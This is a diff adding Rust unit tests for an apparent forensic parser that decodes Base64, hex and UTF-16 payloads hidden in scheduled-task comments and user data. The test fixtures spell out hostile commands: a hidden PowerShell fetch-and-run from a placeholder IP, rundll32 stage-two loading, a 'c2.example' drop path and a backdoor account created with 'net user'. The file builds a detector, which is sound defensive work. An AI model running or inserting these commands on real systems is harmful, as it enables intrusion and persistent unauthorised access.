@@ -0,0 +1,119 @@
+#[cfg(test)]
+mod tests {
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    use base64::Engine;
+    use jobfileparser::payload::{decode_comment, decode_user_data, DecodedArtifact, Encoding};
+
+    fn utf16(text: &str) -> Vec<u8> {
+        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    }
+
+    fn artifact(source: &str, offset: usize, encoding: &[Encoding], decoded: &str) -> DecodedArtifact {
+        DecodedArtifact {
+            source: source.into(),
+            offset,
+            encoding: encoding.to_vec(),
+            decoded: decoded.into(),
+        }
+    }
+
+    #[test]
+    fn test_base64_of_utf16() {
+        let command = "powershell -w hidden -c iex (iwr http://203.0.113.7/a)";
+        let comment = format!("config: {}", STANDARD.encode(utf16(command)));
+        assert_eq!(
+            decode_comment(&comment),
+            [artifact("comment", 8, &[Encoding::Base64, Encoding::Utf16Le], command)]
+        );
+        // The URL-safe alphabet without padding decodes too.
+        let comment = URL_SAFE_NO_PAD.encode(utf16(command));
+        assert_eq!(decode_comment(&comment)[0].decoded, command);
+    }
+
+    #[test]
+    fn test_hex_and_base64_text() {
+        let hex: String = b"C:\\Users\\Public\\stage2.dll".iter().map(|b| format!("{:02x}", b)).collect();
+        let base64 = STANDARD.encode("rundll32 stage2.dll,Start");
+        let comment = format!("{}\n{}", hex, base64);
+        assert_eq!(
+            decode_comment(&comment),
+            [
+                artifact("comment", 0, &[Encoding::Hex], "C:\\Users\\Public\\stage2.dll"),
+                artifact("comment", hex.len() + 1, &[Encoding::Base64], "rundll32 stage2.dll,Start"),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_utf16_inside_binary() {
+        let mut blob = vec![0x4d, 0x5a, 0x90, 0x00, 0x03, 0xff, 0xfe, 0x81];
+        blob.extend(utf16("\\\\c2.example\\drop"));
+        blob.extend([0x00, 0x00, 0xde, 0xad, 0xbe, 0xef, 0x01]);
+        let comment = STANDARD.encode(&blob);
+        assert_eq!(
+            decode_comment(&comment),
+            [artifact("comment", 0, &[Encoding::Base64, Encoding::Utf16Le], "\\\\c2.example\\drop")]
+        );
+        // Binary data with no text in it is no payload.
+        let noise: Vec<u8> = (0..64u32).map(|i| (i * 97 + 13) as u8 | 0x80).collect();
+        assert!(decode_comment(&STANDARD.encode(noise)).is_empty());
+    }
+
+    #[test]
+    fn test_plain_comment() {
+        let comment = "This task keeps the antivirus definitions of the workstation up to date. It was \
+            deployed by the desktop engineering team with the Supercalifragilisticexpialidocious \
+            package (see KB0012345 and C:\\ProgramData\\Vendor\\UpdaterConfiguration\\settings.ini), \
+            and runs InternationalizationConfigurationManager every night. Contact \
+            desktop-engineering@example.com before changing it; its ticket is \
+            0123456789abcdef0123456789abcdef.";
+        assert!(decode_comment(comment).is_empty(), "{:?}", decode_comment(comment));
+        assert!(decode_comment("").is_empty());
+    }
+
+    #[test]
+    fn test_user_data() {
+        // UTF-16 text with no encoded run in it is the payload itself.
+        assert_eq!(
+            decode_user_data(&utf16("net user backdoor P@ssw0rd /add\0")),
+            [artifact("user_data", 0, &[Encoding::Utf16Le], "net user backdoor P@ssw0rd /add")]
+        );
+        // An encoded run in it is decoded.
+        let text = format!("cfg={}", STANDARD.encode("schtasks /run /tn Updater"));
+        assert_eq!(
+            decode_user_data(&utf16(&text)),
+            [artifact("user_data", 4, &[Encoding::Utf16Le, Encoding::Base64], "schtasks /run /tn Updater")]
+        );
+        // Short or binary user data, as programs usually leave, has none.
+        assert!(decode_user_data(&[]).is_empty());
+        assert!(decode_user_data(&[0x01, 0x00, 0x00, 0x00, 0x08, 0x00]).is_empty());
+    }
+
+    #[cfg(feature = "binary")]
+    #[test]
+    fn test_record() {
+        use jobfileparser::job::user_data;
+        use jobfileparser::{JobBuilder, ParsedArtifact, Record};
+        use std::path::Path;
+
+        let job = JobBuilder::new("a.exe").comment(&STANDARD.encode(utf16("whoami /all"))).build().unwrap();
+        let mut data = job.to_bytes();
+        assert!(user_data(&data).is_empty());
+        // Give it user data, between the strings and the empty reserved data.
+        let at = data.len() - 6;
+        assert_eq!(data[at..], [0, 0, 0, 0, 0, 0]);
+        let payload = utf16("rundll32 c.dll");
+        data.splice(at..at + 2, [(payload.len() as u16).to_le_bytes().to_vec(), payload.clone()].concat());
+        assert_eq!(user_data(&data), payload);
+
+        let mut record = Record::new(Path::new("a.job"), Ok(ParsedArtifact::Job(job)));
+        assert_eq!(record.decoded_comment_artifacts(), [artifact("comment", 0, &[Encoding::Base64, Encoding::Utf16Le], "whoami /all")]);
+        record.read_user_data(&data);
+        assert_eq!(record.decoded_comment_artifacts()[1], artifact("user_data", 0, &[Encoding::Utf16Le], "rundll32 c.dll"));
+        #[cfg(feature = "serde")]
+        assert_eq!(
+            serde_json::to_value(&record).unwrap()["decoded_comment_artifacts"][0],
+            serde_json::json!({"source": "comment", "offset": 0, "encoding": ["base64", "utf-16le"], "decoded": "whoami /all"})
+        );
+    }
+}